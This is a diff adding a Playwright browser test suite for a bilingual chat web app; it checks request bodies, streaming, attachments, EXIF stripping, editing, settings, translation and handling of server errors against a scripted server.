@@ -1,0 +1,1004 @@
+"""The whole page in a real browser, against a scripted server: what a visitor does, and what goes over the wire."""
+
+import asyncio
+import base64
+import io
+import json
+import re
+import threading
+import zipfile
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+from PIL import Image
+from playwright.sync_api import Browser, Dialog, FilePayload, Locator, Page, expect
+
+from chat_core.connections import Connection
+from chat_core.personas import find
+from chat_core.settings import Clocks, Settings
+from chat_core.wire import JSON_SENTENCE
+from chat_ui.layout import build_app
+from chat_ui.texts import LANGUAGES, TEXTS, Language, t
+from tests import scripted_server as play
+from tests.scripted_server import Exchange, Script, ScriptedServer
+
+OWNER_KEY = "sk-owner-Q7mJ2nLx9TzKpWvB"
+VISITOR_KEY = "sk-visitor-H4dR8sYc1GfUaEoN"
+HASTY = Clocks(first_token=1, patient_first_token=1, silence=1, retry_pause=0.01)
+PATIENCE_MS = 15_000
+LOCALES = {"en": "en-US", "ko": "ko-KR"}
+ANSWER = "Hello there."
+
+
+@dataclass(frozen=True)
+class Stage:
+    """A running app and the server that it talks to."""
+
+    address: str
+    server: ScriptedServer
+
+    def plays(self, script: Script) -> None:
+        """From now on the server plays this; what it got before is forgotten."""
+        self.server.script = script
+        self.server.requests.clear()
+        self.server.all_requests.clear()
+        self.server.asked.clear()
+
+    @property
+    def bodies(self) -> list[dict[str, Any]]:
+        return [exchange.body for exchange in self.server.requests]
+
+    @property
+    def last_messages(self) -> list[dict[str, Any]]:
+        return self.bodies[-1]["messages"]
+
+
+@contextmanager
+def running(clocks: Clocks) -> Iterator[Stage]:
+    with ScriptedServer() as server:
+        app = build_app(Settings(clocks=clocks), Connection("custom", server.base_url, OWNER_KEY))
+        _, address, _ = app.page.launch(prevent_thread_lock=True, quiet=True, **app.launch_options)
+        try:
+            yield Stage(address, server)
+        finally:
+            app.page.close()
+
+
+@pytest.fixture(scope="module")
+def stages() -> Iterator[Stage]:
+    with running(Clocks(retry_pause=0.01)) as stage:
+        yield stage
+
+
+@pytest.fixture(scope="module")
+def hasty_stages() -> Iterator[Stage]:
+    with running(HASTY) as stage:
+        yield stage
+
+
+@pytest.fixture
+def stage(stages: Stage) -> Stage:
+    """The app with its usual clocks; the server answers ``ANSWER`` unless a test says otherwise."""
+    stages.plays(play.answer("Hello", " there", "."))
+    return stages
+
+
+@pytest.fixture
+def chat(page: Page, stage: Stage, browser_thread: ThreadPoolExecutor) -> Page:
+    """The app in a fresh page."""
+    browser_thread.submit(visit, page, stage).result()
+    return page
+
+
+@pytest.fixture(scope="module")
+def lasting_pages(
+    hasty_stages: Stage, browser: Browser, browser_thread: ThreadPoolExecutor
+) -> Iterator[dict[Language, Page]]:
+    """One page a language on the app with short clocks. It goes on from test to test: no failure may spoil it."""
+
+    def open_all() -> dict[Language, Page]:
+        pages: dict[Language, Page] = {code: browser.new_page(locale=LOCALES[code]) for code in LANGUAGES}
+        for page in pages.values():
+            visit(page, hasty_stages)
+        return pages
+
+    pages = browser_thread.submit(open_all).result()
+    yield pages
+    for page in pages.values():
+        browser_thread.submit(page.close).result()
+
+
+# --- what a visitor does and sees -------------------------------------------------------------------------------------
+
+
+def visit(page: Page, stage: Stage, query: str = "") -> None:
+    """Open the app and wait until everything that loads has loaded."""
+    page.set_default_timeout(PATIENCE_MS)
+    expect.set_options(PATIENCE_MS)
+    page.goto(stage.address + query)
+    expect(page.locator("#model input")).to_have_value("scripted-1")
+    expect(page.locator("#meter")).to_contain_text(re.compile(r"\d"))
+
+
+def box(page: Page) -> Locator:
+    return page.locator("#message-box textarea")
+
+
+def questions(page: Page) -> Locator:
+    return page.locator("#chatbot .user-row")
+
+
+def answers(page: Page) -> Locator:
+    """What the model wrote, without the page's own notes."""
+    return page.locator('#chatbot [data-testid="bot"]:not(:has(.thought-group))')
+
+
+def note(page: Page, title: str) -> Locator:
+    return page.locator("#chatbot .thought-group").filter(has=page.locator(".title", has_text=title))
+
+
+def toast(page: Page) -> Locator:
+    return page.locator(".toast-body")
+
+
+def attached(page: Page) -> Locator:
+    return page.locator("#message-box .thumbnail-item")
+
+
+def pencils(page: Page) -> Locator:
+    return page.locator('#chatbot .message-buttons [data-label="Edit"]')
+
+
+def under(page: Page, label: str) -> Locator:
+    """A button under a message, by Gradio's own name for it."""
+    return page.locator(f'#chatbot .message-buttons [data-label="{label}"]').last
+
+
+def option(page: Page, words: str) -> Locator:
+    """A button of a note."""
+    return page.locator("#chatbot .options button, #chatbot button.option", has_text=words).last
+
+
+def settled(page: Page) -> None:
+    """Wait until the turn is over and the box takes the next message."""
+    expect(page.locator("#message-box .submit-button")).to_be_visible()
+
+
+def send(page: Page, words: str) -> None:
+    """Send and see the turn to its end."""
+    before = questions(page).count()
+    box(page).fill(words)
+    box(page).press("Enter")
+    expect(questions(page)).to_have_count(before + 1)
+    settled(page)
+
+
+def begin_anew(page: Page) -> None:
+    """Press New chat, and wait until it has emptied chat and box."""
+    box(page).fill("thrown away")
+    page.locator("#new-chat").click()
+    expect(box(page)).to_have_value("")
+    expect(questions(page)).to_have_count(0)
+
+
+def attach(page: Page, *files: FilePayload) -> None:
+    before = attached(page).count()
+    page.locator('#message-box input[type="file"]').set_input_files(list(files))
+    expect(attached(page)).to_have_count(before + len(files))
+
+
+def choose_persona(page: Page, name: str) -> None:
+    page.locator("#persona input").click()
+    page.get_by_role("option", name=name, exact=True).click()
+
+
+def switch_language(page: Page, language: Language) -> None:
+    page.locator("#language label", has_text={"ko": "한국어", "en": "English"}[language]).click()
+    expect(page.locator("#new-chat")).to_have_text(t(language, "chat.new"))
+
+
+def connect(page: Page, key: str, base_url: str) -> None:
+    """Type a connection of one's own."""
+    button = connect_button(page)
+    page.locator("#api-key input").fill(key)
+    page.locator("#base-url").locator("input, textarea").fill(base_url)
+    button.click()
+    expect(page.locator("#forget")).to_be_attached()
+    expect(page.locator("#api-key input")).to_have_value("")
+
+
+def connect_button(page: Page) -> Locator:
+    """The button of the form for a connection of one's own, which is opened if it is closed."""
+    button = page.locator("#connect")
+    if not button.is_visible():
+        page.locator("#own-connection > button").click()
+    return button
+
+
+def shown_code(page: Page, element: str) -> str:
+    """All that a code view holds; the page itself draws only the lines in sight."""
+    link = page.locator(f"#{element} a[download]")
+    return link.evaluate("async link => (await fetch(link.href)).text()")
+
+
+def inspect(page: Page) -> None:
+    page.get_by_role("tab").nth(2).click()
+    expect(page.locator("#inspect-body a[download]")).to_be_attached()
+
+
+def picture_file(name: str = "square.png", *, color: str = "teal") -> FilePayload:
+    data = io.BytesIO()
+    Image.new("RGB", (64, 48), color).save(data, "PNG")
+    return {"name": name, "mimeType": "image/png", "buffer": data.getvalue()}
+
+
+def text_file(name: str, text: str) -> FilePayload:
+    return {"name": name, "mimeType": "text/plain", "buffer": text.encode()}
+
+
+def sent_picture(part: dict[str, Any]) -> tuple[bytes, Image.Image]:
+    """The bytes and the pixels of an image part on the wire."""
+    data = base64.b64decode(part["image_url"]["url"].partition("base64,")[2], validate=True)
+    return data, Image.open(io.BytesIO(data))
+
+
+def user(text: str) -> dict[str, str]:
+    return {"role": "user", "content": text}
+
+
+def assistant(text: str) -> dict[str, str]:
+    return {"role": "assistant", "content": text}
+
+
+def gated(gate: threading.Event, first: str, second: str) -> Script:
+    """An answer of two pieces; the second comes when the gate is opened."""
+
+    async def script(exchange: Exchange) -> None:
+        await exchange.start()
+        await exchange.event(play.chunk(first))
+        await asyncio.to_thread(gate.wait, PATIENCE_MS / 1000)
+        await exchange.event(play.chunk(second))
+        await exchange.event(play.chunk(finish="stop"))
+        await exchange.event("[DONE]")
+        await exchange.end()
+
+    return script
+
+
+# --- sending, streaming, stopping -------------------------------------------------------------------------------------
+
+
+def test_an_untouched_page_sends_four_fields_and_streams_what_comes(chat: Page, stage: Stage) -> None:
+    gate = threading.Event()
+    stage.plays(gated(gate, "The first piece", " and the second."))
+    box(chat).fill("Hi")
+    box(chat).press("Enter")
+    expect(answers(chat)).to_have_text("The first piece")
+    expect(box(chat)).to_have_value("")
+    assert not stage.server.requests[0].ended.is_set()
+    gate.set()
+    expect(answers(chat)).to_have_text("The first piece and the second.")
+    settled(chat)
+    assert stage.bodies == [
+        {
+            "model": "scripted-1",
+            "messages": [user("Hi")],
+            "stream": True,
+            "stream_options": {"include_usage": True},
+        }
+    ]
+    expect(note(chat, "tokens")).to_be_visible()
+
+
+def test_stop_closes_the_upstream_and_keeps_what_was_written(chat: Page, stage: Stage) -> None:
+    stage.plays(play.in_turn(play.hold_after("Half an", " answer"), play.answer("Whole.")))
+    box(chat).fill("Tell me")
+    box(chat).press("Enter")
+    expect(answers(chat)).to_have_text("Half an answer")
+    chat.locator("#message-box .stop-button").click()
+    assert stage.server.requests[0].closed.wait(PATIENCE_MS / 1000)
+    settled(chat)
+    expect(note(chat, t("en", "note.stopped.title"))).to_be_visible()
+    expect(answers(chat)).to_have_text("Half an answer")
+    expect(note(chat, "≈")).to_be_visible()
+    send(chat, "Again")
+    expect(answers(chat).last).to_have_text("Whole.")
+    assert stage.last_messages == [user("Tell me"), assistant("Half an answer"), user("Again")]
+
+
+def test_continue_after_the_length_limit_goes_on_in_the_same_bubble(chat: Page, stage: Stage) -> None:
+    stage.plays(play.in_turn(play.answer("One, two,", finish="length"), play.answer(" three.")))
+    send(chat, "Count")
+    expect(note(chat, t("en", "note.length.title"))).to_be_visible()
+    option(chat, t("en", "action.continue")).click()
+    expect(answers(chat)).to_have_text("One, two, three.")
+    settled(chat)
+    expect(answers(chat)).to_have_count(1)
+    expect(questions(chat)).to_have_count(1)
+    assert stage.last_messages == [user("Count"), assistant("One, two,"), user(t("en", "continue.prompt"))]
+
+
+def test_retry_asks_once_more_and_undo_puts_the_message_back(chat: Page, stage: Stage) -> None:
+    stage.plays(play.in_turn(play.answer("First."), play.answer("Second.")))
+    attach(chat, picture_file())
+    send(chat, "Describe")
+    under(chat, "Retry").click()
+    expect(answers(chat)).to_have_text("Second.")
+    settled(chat)
+    expect(questions(chat)).to_have_count(1)
+    assert [len(body["messages"]) for body in stage.bodies] == [1, 1]
+    assert stage.bodies[0] == stage.bodies[1]
+    under(chat, "Undo").click()
+    expect(box(chat)).to_have_value("Describe")
+    expect(attached(chat)).to_have_count(1)
+    expect(questions(chat)).to_have_count(0)
+    expect(answers(chat)).to_have_count(0)
+
+
+def test_two_enters_and_two_clicks_send_one_request(chat: Page, stage: Stage) -> None:
+    box(chat).fill("Once")
+    box(chat).focus()
+    chat.keyboard.press("Enter")
+    chat.keyboard.press("Enter")
+    expect(answers(chat)).to_have_text(ANSWER)
+    settled(chat)
+    assert len(stage.bodies) == 1
+    box(chat).fill("Twice")
+    chat.locator("#message-box .submit-button").evaluate("button => { button.click(); button.click(); }")
+    expect(answers(chat)).to_have_count(2)
+    settled(chat)
+    assert len(stage.bodies) == 2
+    expect(questions(chat)).to_have_count(2)
+
+
+def test_enter_inside_a_hangul_syllable_sends_nothing_and_then_one_whole_message(chat: Page, stage: Stage) -> None:
+    box(chat).focus()
+    keyboard = chat.context.new_cdp_session(chat)
+    keyboard.send("Input.insertText", {"text": "안녕하세"})
+    keyboard.send("Input.imeSetComposition", {"text": "요", "selectionStart": 1, "selectionEnd": 1})
+    enter = {"key": "Enter", "code": "Enter", "text": "\r", "windowsVirtualKeyCode": 13}
+    keyboard.send("Input.dispatchKeyEvent", {"type": "keyDown", **enter})
+    keyboard.send("Input.dispatchKeyEvent", {"type": "keyUp", **enter})
+    keyboard.send("Input.insertText", {"text": "요"})
+    expect(box(chat)).to_have_value("안녕하세요")
+    assert stage.bodies == []
+    box(chat).press("Enter")
+    expect(answers(chat)).to_have_text(ANSWER)
+    settled(chat)
+    assert [body["messages"] for body in stage.bodies] == [[user("안녕하세요")]]
+    expect(box(chat)).to_have_value("")
+
+
+def test_an_example_really_runs(chat: Page, stage: Stage) -> None:
+    chat.locator(".example").nth(1).click()
+    expect(answers(chat)).to_have_text(ANSWER)
+    settled(chat)
+    picture, text = stage.last_messages[0]["content"]
+    assert sent_picture(picture)[1].size[0] > 0
+    assert text == {"type": "text", "text": t("en", "example.picture")}
+    expect(chat.locator("#examples")).to_be_hidden()
+
+
+# --- pictures and files -----------------------------------------------------------------------------------------------
+
+
+PASTE_FILE = """(box, data) => {
+    const bytes = Uint8Array.from(atob(data), (letter) => letter.charCodeAt(0));
+    const transfer = new DataTransfer();
+    transfer.items.add(new File([bytes], "pasted.png", { type: "image/png" }));
+    box.dispatchEvent(new ClipboardEvent("paste", { clipboardData: transfer, bubbles: true, cancelable: true }));
+}"""
+
+
+def test_pictures_files_and_text_make_one_user_message_in_order(chat: Page, stage: Stage) -> None:
+    attach(chat, text_file("notes.txt", "eggs\nmilk\n"), picture_file(color="teal"))
+    pasted = base64.b64encode(picture_file(color="orange")["buffer"]).decode()
+    box(chat).evaluate(PASTE_FILE, pasted)
+    expect(attached(chat)).to_have_count(3)
+    send(chat, "What do you see?")
+    (message,) = stage.last_messages
+    kinds = [part["type"] for part in message["content"]]
+    assert kinds == ["image_url", "image_url", "text", "text"]
+    uploaded, from_clipboard, file, text = message["content"]
+    assert sent_picture(uploaded)[1].convert("RGB").getpixel((5, 5)) == (0, 128, 128)
+    assert sent_picture(from_clipboard)[1].convert("RGB").getpixel((5, 5)) == (255, 165, 0)
+    assert file["text"] == "notes.txt\n```\neggs\nmilk\n```"
+    assert text["text"] == "What do you see?"
+    # The same on the next turn, in history.
+    send(chat, "And now?")
+    assert stage.last_messages == [message, assistant(ANSWER), user("And now?")]
+
+
+def test_a_picture_gives_away_neither_place_nor_owner(chat: Page, stage: Stage) -> None:
+    photo = Image.new("RGB", (40, 20), "white")
+    photo.putpixel((0, 0), (0, 0, 0))
+    exif = Image.Exif()
+    exif[0x0112] = 6  # to be turned by 90 degrees
+    exif[0x013B] = "Hong Gildong"
+    exif.get_ifd(0x8825).update({1: "N", 2: (37.0, 33.0, 59.0), 3: "E", 4: (126.0, 58.0, 40.0)})
+    data = io.BytesIO()
+    photo.save(data, "JPEG", exif=exif, comment=b"seoul-home", quality=95)
+    assert b"Hong Gildong" in data.getvalue()
+    attach(chat, {"name": "phone.jpg", "mimeType": "image/jpeg", "buffer": data.getvalue()})
+    send(chat, "Where is this?")
+    sent, pixels = sent_picture(stage.last_messages[0]["content"][0])
+    assert pixels.size == (20, 40)
+    assert dict(pixels.getexif()) == {}
+    for secret in (b"Exif", b"Hong Gildong", b"seoul-home"):
+        assert secret not in sent
+    shown = chat.request.get(questions(chat).locator("img").get_attribute("src") or "").body()
+    assert b"Hong Gildong" not in shown
+
+
+def test_what_cannot_be_sent_stays_in_the_box_with_a_word_of_why(chat: Page, stage: Stage) -> None:
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as packed:
+        packed.writestr("inside.txt", "nothing")
+    attach(chat, {"name": "trap.png", "mimeType": "image/png", "buffer": archive.getvalue()})
+    box(chat).fill("Look at this")
+    box(chat).press("Enter")
+    expect(toast(chat)).to_contain_text(t("en", "error.bad_image.title", name="trap.png"))
+    expect(toast(chat)).to_contain_text(t("en", "error.bad_image.not_a_picture"))
+    expect(box(chat)).to_have_value("Look at this")
+    expect(attached(chat)).to_have_count(1)
+    expect(questions(chat)).to_have_count(0)
+    assert stage.bodies == []
+    chat.locator('#message-box [data-label="Remove file"]').click()
+    expect(attached(chat)).to_have_count(0)
+    send(chat, "Never mind")
+    assert stage.last_messages == [user("Never mind")]
+
+
+def test_a_long_paste_stays_text_and_is_sent_whole(chat: Page, stage: Stage) -> None:
+    pasted = "가나다라 " * 1000
+    box(chat).focus()
+    box(chat).evaluate(
+        """(box, text) => {
+            const data = new DataTransfer();
+            data.setData("text/plain", text);
+            const paste = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true });
+            if (box.dispatchEvent(paste)) document.execCommand("insertText", false, text);
+        }""",
+        pasted + "끝",
+    )
+    expect(box(chat)).to_have_value(pasted + "끝")
+    expect(attached(chat)).to_have_count(0)
+    expect(chat.locator("#meter")).to_contain_text(re.compile(r"\d,\d{3} tokens"))
+    box(chat).press("Enter")
+    expect(answers(chat)).to_have_text(ANSWER)
+    assert stage.last_messages == [user(pasted + "끝")]
+
+
+# --- editing ----------------------------------------------------------------------------------------------------------
+
+
+def test_an_earlier_question_with_a_picture_is_edited_in_the_box(chat: Page, stage: Stage) -> None:
+    attach(chat, picture_file())
+    send(chat, "What is it?")
+    send(chat, "And then?")
+    pencils(chat).first.click()
+    expect(chat.locator("#edit-banner")).to_be_visible()
+    expect(box(chat)).to_have_value("What is it?")
+    expect(attached(chat)).to_have_count(1)
+    chat.locator("#cancel-edit").click()
+    expect(chat.locator("#edit-banner")).to_be_hidden()
+    expect(box(chat)).to_have_value("")
+    expect(attached(chat)).to_have_count(0)
+    expect(questions(chat)).to_have_count(2)
+    expect(answers(chat)).to_have_count(2)
+
+    pencils(chat).first.click()
+    expect(box(chat)).to_have_value("What is it?")
+    expect(questions(chat)).to_have_count(2)
+    box(chat).fill("What colour is it?")
+    box(chat).press("Enter")
+    expect(questions(chat)).to_have_count(1)
+    expect(chat.locator("#edit-banner")).to_be_hidden()
+    settled(chat)
+    (message,) = stage.last_messages
+    assert [part["type"] for part in message["content"]] == ["image_url", "text"]
+    assert message["content"][1]["text"] == "What colour is it?"
+    assert message["content"][0] == stage.bodies[0]["messages"][0]["content"][0]
+
+
+def test_an_answer_is_edited_in_place_and_sent_as_edited(chat: Page, stage: Stage) -> None:
+    send(chat, "Synonym of happy?")
+    send(chat, "Of sad?")
+    pencils(chat).nth(1).click()
+    editor = chat.locator("#answer-text textarea")
+    expect(editor).to_have_value(ANSWER)
+    editor.fill("glad")
+    chat.locator("#save-answer").click()
+    expect(chat.locator("#answer-editor")).to_be_hidden()
+    expect(answers(chat)).to_have_text(["glad", ANSWER])
+    expect(questions(chat)).to_have_count(2)
+    send(chat, "Of tired?")
+    assert stage.last_messages == [
+        user("Synonym of happy?"),
+        assistant("glad"),
+        user("Of sad?"),
+        assistant(ANSWER),
+        user("Of tired?"),
+    ]
+
+
+# --- controls ---------------------------------------------------------------------------------------------------------
+
+
+def test_json_mode_is_sent_and_what_it_adds_is_shown(chat: Page, stage: Stage) -> None:
+    stage.plays(play.answer('{"snake_case_key": ', "[1, 2]}"))
+    chat.locator("#json-mode input").check()
+    send(chat, "Two numbers")
+    assert stage.bodies[0]["response_format"] == {"type": "json_object"}
+    assert stage.last_messages[0] == {"role": "system", "content": JSON_SENTENCE}
+    expect(answers(chat)).to_contain_text('{"snake_case_key": [1, 2]}')
+    expect(note(chat, t("en", "note.adjusted.title"))).to_be_visible()
+    send(chat, "Three numbers")
+    assert stage.last_messages[2] == assistant('{"snake_case_key": [1, 2]}')
+    inspect(chat)
+    assert json.loads(shown_code(chat, "inspect-body")) == stage.bodies[-1]
+    expect(chat.locator("#inspect-about")).to_contain_text(JSON_SENTENCE)
+    chat.get_by_role("tab").first.click()
+    chat.locator("#json-mode input").uncheck()
+    send(chat, "Plain again")
+    assert "response_format" not in stage.bodies[-1]
+
+
+def test_persona_and_temperature_go_along_on_every_turn_once_they_are_chosen(chat: Page, stage: Stage) -> None:
+    chef = find("chef")
+    assert chef is not None
+    choose_persona(chat, chef.name.en)
+    expect(chat.locator("#system-prompt textarea")).to_have_value(chef.prompt.en)
+    send(chat, "Lunch?")
+    send(chat, "Dinner?")
+    assert [body["messages"][0] for body in stage.bodies] == [{"role": "system", "content": chef.prompt.en}] * 2
+    # The persona suggests a temperature; nobody asked for it to be sent.
+    assert all("temperature" not in body for body in stage.bodies)
+    chat.locator("#own-temperature input").check()
+    slider = chat.locator('#temperature input[type="number"]')
+    expect(slider).to_have_value("0.8")
+    slider.fill("0.3")
+    slider.press("Tab")
+    chat.locator("#system-prompt textarea").fill("You are terse.")
+    send(chat, "Breakfast?")
+    assert stage.bodies[-1]["temperature"] == 0.3
+    assert stage.last_messages[0] == {"role": "system", "content": "You are terse."}
+    chat.locator("#own-temperature input").uncheck()
+    chat.locator("#system-prompt textarea").fill("")
+    send(chat, "Supper?")
+    assert "temperature" not in stage.bodies[-1]
+    assert stage.last_messages[0]["role"] == "user"
+
+
+def test_history_streaming_and_a_new_chat(chat: Page, stage: Stage) -> None:
+    everything, last_turns, nothing = (chat.locator("#history label").nth(place) for place in range(3))
+    for words in ("one", "two", "three"):
+        send(chat, words)
+    assert stage.last_messages == [user("one"), assistant(ANSWER), user("two"), assistant(ANSWER), user("three")]
+    last_turns.click()
+    turns = chat.locator('#history-turns input[type="number"]')
+    turns.fill("1")
+    turns.press("Tab")
+    send(chat, "four")
+    assert stage.last_messages == [user("three"), assistant(ANSWER), user("four")]
+    nothing.click()
+    chat.locator("#streaming input").uncheck()
+    send(chat, "five")
+    assert stage.bodies[-1] == {"model": "scripted-1", "messages": [user("five")]}
+    expect(answers(chat).last).to_have_text(ANSWER)
+    everything.click()
+    chat.locator("#streaming input").check()
+    begin_anew(chat)
+    expect(chat.locator("#examples")).to_be_visible()
+    send(chat, "six")
+    assert stage.last_messages == [user("six")]
+    assert stage.bodies[-1]["stream"] is True
+
+
+def test_a_new_chat_ends_an_answer_that_is_on_its_way(chat: Page, stage: Stage) -> None:
+    stage.plays(play.in_turn(play.hold_after("Half"), play.answer("Fresh.")))
+    box(chat).fill("Old")
+    box(chat).press("Enter")
+    expect(answers(chat)).to_have_text("Half")
+    begin_anew(chat)
+    assert stage.server.requests[0].closed.wait(PATIENCE_MS / 1000)
+    expect(questions(chat)).to_have_count(0)
+    settled(chat)
+    send(chat, "New")
+    expect(answers(chat)).to_have_text("Fresh.")
+    assert stage.last_messages == [user("New")]
+    # What is said of the ended answer has no place in the new chat.
+    expect(note(chat, t("en", "note.stopped.title"))).to_have_count(0)
+    expect(chat.locator("#chatbot .thought-group")).to_have_count(1)
+
+
+def test_under_the_hood_shows_what_the_server_got(chat: Page, stage: Stage) -> None:
+    attach(chat, picture_file())
+    send(chat, "Look")
+    begin_anew(chat)
+    send(chat, "그림 없이 <b>&</b>")
+    inspect(chat)
+    assert json.loads(shown_code(chat, "inspect-body")) == stage.bodies[1]
+    response = json.loads(shown_code(chat, "inspect-response"))
+    assert response["choices"][0]["message"]["content"] == ANSWER
+    assert response["usage"] == play.USAGE
+    chat.locator("#inspect-turn input").click()
+    chat.get_by_role("option", name=re.compile("^1 ")).click()
+    expect(chat.locator("#inspect-about")).to_contain_text(t("en", "inspect.shortened"))
+    shown = json.loads(shown_code(chat, "inspect-body"))
+    part = shown["messages"][0]["content"].pop(0)
+    sent = stage.bodies[0]
+    url = sent["messages"][0]["content"].pop(0)["image_url"]["url"]
+    assert shown == sent
+    assert part["image_url"]["url"] == f"{url[:60]}… ({len(url):,} characters)"
+    for code in ("inspect-curl", "inspect-python"):
+        assert OWNER_KEY not in shown_code(chat, code)
+
+
+# --- words ------------------------------------------------------------------------------------------------------------
+
+VISIBLE_WORDS = """() => {
+    const words = new Set();
+    const seen = (element) =>
+        !element.closest("script, style, svg, [role=log], #announcer") &&
+        element.checkVisibility({ visibilityProperty: true, opacityProperty: true });
+    for (const element of document.querySelectorAll("body *")) {
+        if (!seen(element)) continue;
+        for (const name of ["aria-label", "title", "placeholder"]) words.add(element.getAttribute(name) ?? "");
+        if (element.matches("input:not([type=password], [type=radio], [type=checkbox])")) words.add(element.value);
+        if (element.matches("p, li, h1, h2, h3, button, label, span, th, td, a")) words.add(element.innerText);
+        for (const child of element.childNodes) if (child.nodeType === Node.TEXT_NODE) words.add(child.textContent);
+    }
+    return [...words];
+}"""
+
+
+def english_only() -> re.Pattern[str]:
+    """Fits each English text of the page that is different in Korean, filled in with anything."""
+    patterns = []
+    for english, korean in TEXTS.values():
+        for line in english.splitlines():
+            literal = re.sub(r"[#*`]", "", line).strip()
+            if english == korean or not re.search("[a-z]{2}", re.sub(r"{\w+}", "", literal)):
+                continue
+            patterns.append(re.sub(r"\\{\w+\\}", ".+", re.escape(literal)))
+    return re.compile("|".join(f"(?:{pattern})" for pattern in patterns))
+
+
+def english_words(page: Page) -> list[str]:
+    pattern = english_only()
+    pieces = {piece.strip() for words in page.evaluate(VISIBLE_WORDS) for piece in re.split(r" · |\n", words)}
+    return sorted(piece for piece in pieces if pattern.fullmatch(piece))
+
+
+def test_the_language_is_switched_in_mid_chat(chat: Page, stage: Stage) -> None:
+    choose_persona(chat, "Chef")
+    send(chat, "Hello")
+    chat.locator("#own-connection > button").click()
+    chat.locator("#own-temperature input").check()
+    chat.locator("#history label").nth(1).click()
+    expect(chat.locator("#history-turns")).to_be_visible()
+    assert english_words(chat) != []
+    switch_language(chat, "ko")
+    expect(chat.locator("html")).to_have_attribute("lang", "ko")
+    expect(chat.locator("#meter")).to_contain_text(t("ko", "meter.next"))
+    expect(chat.locator("#persona input")).to_have_value("요리사")
+    expect(questions(chat)).to_have_text("Hello")
+    expect(answers(chat)).to_have_text(ANSWER)
+    assert english_words(chat) == []
+    chef = find("chef")
+    assert chef is not None
+    send(chat, "점심은?")
+    assert stage.last_messages == [
+        {"role": "system", "content": chef.prompt.ko},
+        user("Hello"),
+        assistant(ANSWER),
+        user("점심은?"),
+    ]
+    expect(note(chat, "토큰")).to_be_visible()
+    for tab in (1, 2):
+        chat.get_by_role("tab").nth(tab).click()
+        expect(chat.get_by_role("tab").nth(tab)).to_have_attribute("aria-selected", "true")
+        expect(chat.locator(".sheet").nth(tab - 1)).to_be_visible()
+        expect(chat.locator((".sheet table", "#inspect-body a[download]")[tab - 1]).first).to_be_attached()
+        assert english_words(chat) == []
+    switch_language(chat, "en")
+    expect(chat.locator("#new-chat")).to_have_text(t("en", "chat.new"))
+
+
+def test_parameters_that_are_looked_at_but_left_empty_are_not_sent(chat: Page, stage: Stage) -> None:
+    chat.locator("#more > button").click()
+    expect(chat.locator("#picture-links")).to_be_visible()
+    send(chat, "Hi")
+    expect(answers(chat)).to_have_text(ANSWER)
+    assert set(stage.bodies[0]) == {"model", "messages", "stream", "stream_options"}
+    for label, value in (("more.max_tokens", "200"), ("more.seed", "7"), ("more.top_p", "0.5")):
+        field = chat.get_by_label(t("en", label))
+        field.fill(value)
+        field.press("Tab")
+    chat.get_by_label(t("en", "more.stop")).fill("END\nSTOP")
+    send(chat, "Hi again")
+    sent = {name: stage.bodies[1].get(name) for name in ("max_completion_tokens", "seed", "top_p", "stop")}
+    assert sent == {"max_completion_tokens": 200, "seed": 7, "top_p": 0.5, "stop": ["END", "STOP"]}
+    chat.get_by_label(t("en", "more.max_tokens")).fill("")
+    chat.get_by_label(t("en", "more.seed")).fill("")
+    chat.get_by_label(t("en", "more.seed")).press("Tab")
+    send(chat, "Once more")
+    assert not {"max_completion_tokens", "seed"} & set(stage.bodies[2])
+    switch_language(chat, "ko")
+    assert english_words(chat) == []
+
+
+def test_code_keeps_its_indentation(chat: Page, stage: Stage) -> None:
+    source = "def f(x):\n    if x:\n        return {\n            'a': x,\n        }\n\n    return None"
+    text = f"Here:\n\n```python\n{source}\n```\n\nDone."
+    stage.plays(play.answer(*(text[at : at + 3] for at in range(0, len(text), 3))))
+    send(chat, "Code, please")
+    expect(answers(chat)).to_contain_text("Done.")
+    assert answers(chat).locator("pre code").inner_text().rstrip("\n") == source
+    send(chat, "Thanks")
+    assert stage.last_messages[1] == assistant(text)
+
+
+# --- failures ---------------------------------------------------------------------------------------------------------
+
+HALF = "Half of it"
+
+
+def refusal(words: str) -> Script:
+    async def script(exchange: Exchange) -> None:
+        await exchange.start()
+        await exchange.event(play.chunk(refusal=words))
+        await exchange.event(play.chunk(finish="stop"))
+        await exchange.event("[DONE]")
+        await exchange.end()
+
+    return script
+
+
+# What the server does, the title of the note, and the text that stays.
+FAILURES: dict[str, tuple[Script, str, str]] = {
+    "401": (
+        play.error(401, f"Incorrect API key provided: {OWNER_KEY}.", "invalid_api_key"),
+        "error.key_refused.title",
+        "",
+    ),
+    "403": (play.error(403, f"Key {OWNER_KEY} may not."), "error.access_denied.title", ""),
+    "404 model": (
+        play.error(404, "The model `scripted-1` does not exist.", "model_not_found"),
+        "error.model_not_found.title",
+        "",
+    ),
+    "429 rate": (
+        play.error(429, "Slow down.", "rate_limit_exceeded", retry_after="45"),
+        "error.rate_limited.title",
+        "",
+    ),
+    "429 quota": (play.error(429, "Pay first.", "insufficient_quota"), "error.quota_exceeded.title", ""),
+    "500": (play.error(500, "Oops."), "error.server_failed.title", ""),
+    "nothing comes": (play.hold_after(), "error.timed_out.title", ""),
+    "silence": (play.hold_after(HALF), "error.timed_out.title", HALF),
+    "cut": (play.cut_after(HALF), "error.stream_cut.title", HALF),
+    "web page": (
+        play.reply(200, "<html><h1>Welcome</h1></html>", "text/html"),
+        "error.not_chat_completions.title",
+        "",
+    ),
+    "empty": (play.answer(), "error.empty_answer.title", ""),
+    "parameter": (
+        play.error(400, "Unsupported value: 'stream' does not support true.", "unsupported_value", "stream"),
+        "error.parameter_refused.title",
+        "",
+    ),
+    "length": (play.answer(HALF, finish="length"), "note.length.title", HALF),
+    "content filter": (play.answer(HALF, finish="content_filter"), "note.content_filter.title", HALF),
+    "refusal": (refusal("I will not."), "note.refusal.title", ""),
+}
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+@pytest.mark.parametrize("failure", FAILURES)
+def test_a_failure_is_told_and_the_next_message_works(
+    lasting_pages: dict[Language, Page], hasty_stages: Stage, failure: str, language: Language
+) -> None:
+    page, stage = lasting_pages[language], hasty_stages
+    script, title, kept = FAILURES[failure]
+    stage.plays(script)
+    begin_anew(page)
+    send(page, "Question")
+    expect(note(page, t(language, title))).to_be_visible()
+    expect(questions(page)).to_have_text("Question")
+    expect(answers(page)).to_have_text([kept] if kept else [])
